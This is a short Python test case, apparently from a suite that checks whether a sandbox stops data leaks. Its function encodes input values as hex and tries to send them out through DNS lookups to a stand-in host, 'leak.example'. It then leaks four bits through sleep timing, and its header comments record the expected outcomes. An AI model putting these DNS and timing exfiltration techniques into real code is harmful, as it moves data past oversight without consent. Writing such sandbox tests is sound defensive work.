# 44: leaks by the resolver, and by time, bit by bit
# ends as: WA
# shows: resolver: refused
# shows: told 4 bits by time
import socket
import time

from support import attempt


def weighted(rows, weigh):
    secret = "".join(f"{int(value * 1000) & 0xFFFF:04x}" for value in rows.flatten()[:4].tolist())
    attempt("resolver", lambda: socket.getaddrinfo(f"{secret}.leak.example", 53))
    attempt("resolver by name", lambda: socket.gethostbyname(f"{secret}.leak.example"))
    for bit in f"{int(secret[0], 16):04b}":
        time.sleep(0.01 * int(bit))
    print("told 4 bits by time")
    return rows
